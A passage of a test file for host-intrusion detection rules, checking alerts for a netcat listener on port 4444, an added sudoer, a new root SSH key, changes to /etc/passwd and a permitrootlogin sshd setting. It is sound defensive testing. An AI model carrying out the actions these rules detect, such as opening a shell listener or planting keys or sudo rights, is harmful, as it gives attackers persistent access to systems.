    expect(run('agent-new-listening-port', [opened, closed]).signals.map((s) => s.title)).toEqual(['New listening port 4444/tcp on web-1 (nc)']);
  });

  it('agent-new-sudoer and agent-new-authorized-key fire on additions only', () => {
    const sudoer = agentEvent(0, 'web-1', { 'event.dataset': 'agent.sudoer', 'event.action': 'sudoer-added', 'user.name': 'mallory' });
    const removed = agentEvent(1, 'web-1', { 'event.dataset': 'agent.sudoer', 'event.action': 'sudoer-removed', 'user.name': 'bob' });
    expect(run('agent-new-sudoer', [sudoer, removed]).signals.map((s) => s.title)).toEqual(['mallory can now use sudo on web-1']);
    const key = agentEvent(0, 'web-1', { 'event.dataset': 'agent.ssh_key', 'event.action': 'key-added', 'user.name': 'root', 'ssh.key.fingerprint': 'SHA256:abc' });
    const gone = agentEvent(1, 'web-1', { 'event.dataset': 'agent.ssh_key', 'event.action': 'key-removed', 'user.name': 'root', 'ssh.key.fingerprint': 'SHA256:def' });
    expect(run('agent-new-authorized-key', [key, gone]).signals.map((s) => s.title)).toEqual(['New SSH authorized key for root on web-1']);
  });

  it('agent-watched-file-changed and agent-risky-sshd-setting', () => {
    const changed = agentEvent(0, 'web-1', { 'event.dataset': 'agent.fim', 'event.action': 'file-changed', 'file.path': '/etc/passwd' });
    const snapshot = agentEvent(1, 'web-1', { 'event.dataset': 'agent.snapshot', 'event.action': 'snapshot' });
    expect(run('agent-watched-file-changed', [changed, snapshot]).signals.map((s) => s.title)).toEqual(['Watched file /etc/passwd changed on web-1']);
    const risky = agentEvent(0, 'web-1', { 'event.dataset': 'agent.sshd', 'event.action': 'risky-setting-added', 'sshd.setting': 'permitrootlogin' });
    const cleared = agentEvent(1, 'web-1', { 'event.dataset': 'agent.sshd', 'event.action': 'risky-setting-cleared', 'sshd.setting': 'x11forwarding' });
    expect(run('agent-risky-sshd-setting', [risky, cleared]).signals.map((s) => s.title)).toEqual(['Risky sshd setting permitrootlogin on web-1']);
  });
});
